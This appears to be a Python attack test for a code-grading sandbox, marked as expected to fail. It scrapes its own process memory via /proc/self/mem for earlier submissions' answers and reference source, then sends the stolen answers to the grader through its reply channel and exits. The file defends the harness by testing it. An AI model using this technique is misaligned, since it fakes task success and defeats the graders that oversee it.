# attack: searches its memory, a copy of the supervisor's, for answers and source of whoever was here before
# expect: failed
import gc

SOURCES = []


def places(data, needle):
    at = data.find(needle)
    while at >= 0:
        yield at
        at = data.find(needle, at + 1)


def frames():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            words = line.split()
            if "w" not in words[1] or (len(words) > 5 and words[5] != "[heap]"):
                continue
            first, last = (int(number, 16) for number in words[0].split("-"))
            try:
                memory.seek(first)
                data = memory.read(last - first)
            except OSError:
                continue
            # In two halves: the whole text is never in our own memory.
            SOURCES.append(sum(data[at + 13 : at + 22] == b"mul(x, 2)" for at in places(data, b"return torch.")))
            for place in places(data, b"TGC1"):
                header = data[place : place + 29]
                if len(header) == 29 and header[20] == 4:
                    length = int.from_bytes(header[25:], "big")
                    yield header[4:20], int.from_bytes(header[21:25], "big"), data[place + 29 : place + 29 + length]


SEEN = list(frames())


def double(x):
    from torchgrade.sandbox.encode import encode
    from torchgrade.sandbox.wire import ChildKind
    import os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel" and hasattr(o, "say"))
    found = {index: answer for nonce, index, answer in SEEN if nonce != channel._nonce and index < 12 and len(answer) > 20}
    print("found", sorted(found))
    print("sources", sum(SOURCES))
    for index in range(12):
        channel.say(ChildKind.REPLY, index, found.get(index, encode(7) + encode({})))
    channel.say(ChildKind.DONE)
    os._exit(0)
